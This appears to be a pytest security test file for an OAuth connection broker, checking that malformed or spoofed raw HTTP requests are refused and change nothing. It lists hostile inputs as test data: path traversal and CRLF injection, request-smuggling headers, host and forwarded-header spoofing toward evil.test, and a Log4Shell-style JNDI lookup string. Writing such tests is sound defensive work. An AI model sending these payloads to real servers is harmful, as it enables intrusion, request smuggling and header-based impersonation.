"""Bad requests at the standalone app: each ends in a plain refusal, and changes nothing."""

import socket
from contextlib import suppress

import httpx2
import pytest

from portalkey.broker import Broker
from portalkey.settings import Settings
from support.patience import PATIENCE
from support.visitor import Visitor

GET = "GET {path} HTTP/1.1\r\nHost: {host}\r\n{header}Connection: close\r\n\r\n"
METHODS = ("TRACE", "TRACK", "CONNECT", "PROPFIND", "DEBUG", "get", "M" * 4096, "DELETE", "PATCH")
TARGETS = (
    "/auth/hubspot/callback/",
    "//auth/hubspot/callback",
    "/auth//hubspot/callback",
    "/auth/./hubspot/callback",
    "/auth/hubspot/%63allback%2563",
    "/auth/hubspot/%c0%af",
    "/auth/hubspot/callback%00",
    "/auth/hubspot/callback;jsessionid=1",
    "/auth/hubspot/..;/",
    "/api/connections/x.css",
    "/api/hubspot/status.js?x",
    "/api/hubspot/status/%0a.png",
    "/API/HubSpot/Status",
    "/auth/../admin/start",
    "/auth/hubspot%2f..%2fx/start",
    "/auth/__class__/start",
    "http://evil.test/auth/hubspot/start",
    "evil.test:443",
    "*",
    "/%0d%0aSet-Cookie:%20x=1",
    "/\x01",
    "/\xff",
)
HEADERS = (
    "Host: evil.test\r\n",
    "X: a\x00b\r\n",
    "X: a\rb\r\n",
    "X: a\nb\r\n",
    "X: a\r\n b\r\n",
    "X : a\r\n",
    "Content-Length: 1\r\nContent-Length: 2\r\n",
    "Content-Length: -1\r\n",
    "Transfer-Encoding: chunked, identity\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n",
    "X: " + "a" * 65536 + "\r\n",
    "X: a\r\n" * 1000,
    "Expect: the-unexpected\r\nContent-Length: 70000\r\n",
)
INERT = (
    "X-Forwarded-Host: evil.test",
    "X-Forwarded-Prefix: //evil.test",
    "X-Forwarded-Proto: javascript",
    "Forwarded: host=evil.test",
    "X-Original-URL: /healthz",
    "X-Rewrite-URL: /healthz",
    "X-HTTP-Method-Override: DELETE",
    "X_Forwarded_Host: evil.test",
    "Remote-User: admin",
    "X-Forwarded-User: admin",
    "Accept: */*;q=NaN",
    "Accept-Language: ${jndi:ldap://evil.test}, {{7*7}}, %n%n",
    "User-Agent: kube-probe/1.0 GoogleHC \xe2\x80\xae",
    "Range: bytes=" + "0-0,-1," * 1000 + "0-0",
    "If-None-Match: *",
)


def answer_to(port: int, request: str) -> bytes:
    """Everything that is answered to these very bytes."""
    with socket.create_connection(("127.0.0.1", port), PATIENCE) as connection:
        with suppress(OSError):
            connection.sendall(request.encode("latin-1"))
        received = b""
        with suppress(ConnectionResetError):
            while more := connection.recv(65536):
                received += more
    return received


def is_refusal(answer: bytes) -> bool:
    """True for what says that the caller is wrong, not that the server is."""
    return int(answer[9:12] or b"0") in {*range(400, 500), 501, 505}


def is_on_site(answer: bytes, host: str) -> bool:
    """True for a redirect to the same address, written properly."""
    return answer[9:12] == b"308" and location_of(answer).startswith(f"http://{host}/auth/")


@pytest.fixture
def host(app_url: str) -> str:
    """The app's own host, which answers."""
    return app_url.removeprefix("http://")


def test_a_malformed_request_is_refused(host: str, port: int, broker: Broker) -> None:
    """4xx or 501, in words of our own; nothing of what came is in them, and nothing is begun."""
    requests = [GET.replace("GET", each).format(path="/", host=host, header="") for each in METHODS]
    requests += [GET.format(path=path, host=host, header="") for path in TARGETS]
    requests += [GET.format(path="/", host=host, header=header) for header in HEADERS]
    requests += [
        GET.format(path="/", host=other, header="")
        for other in ("evil.test", "", "localhost:1@evil.test", f"{host}, evil.test")
    ]
    requests += [
        "GET / HTTP/9.9\r\nHost: a\r\n\r\n",
        "GET /\r\n\r\n",
        "\r\n\r\n\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ]

    answers = [(request, answer_to(port, request)) for request in requests]

    wrong = [
        (request[:80], answer[:200])
        for request, answer in answers
        if not (is_refusal(answer) or is_on_site(answer, host)) or b"evil" in answer
    ]
    assert wrong == []
    assert list(broker.vault.store.events()) == []
    assert httpx2.get(f"http://{host}/healthz").status_code == 200


def test_headers_that_some_servers_believe_change_nothing(
    host: str, port: int, settings: Settings
) -> None:
    """The same redirect to the same place, whatever a stranger claims."""
    plain = answer_to(port, GET.format(path="/", host=host, header=""))
    believed = {
        header
        for header in INERT
        if location_of(answer_to(port, GET.format(path="/", host=host, header=f"{header}\r\n")))
        != location_of(plain)
    }

    assert location_of(plain) == "/connections/setup"
    assert believed == set()


def location_of(answer: bytes) -> str:
    """Where an answer leads."""
    line = answer.partition(b"\r\nLocation: ")[2]
    return line.partition(b"\r\n")[0].decode()


def test_looking_at_a_route_begins_nothing(visitor: Visitor, broker: Broker, port: int) -> None:
    """HEAD and OPTIONS leave no attempt behind."""
    link = visitor.connect_link
    attempt = "H" * 22

    answers = [
        visitor.http.request(method, f"{link}&attempt={attempt}") for method in ("HEAD", "OPTIONS")
    ]

    assert all(answer.status_code < 500 for answer in answers)
    assert broker.vault.store.attempt(attempt) is None
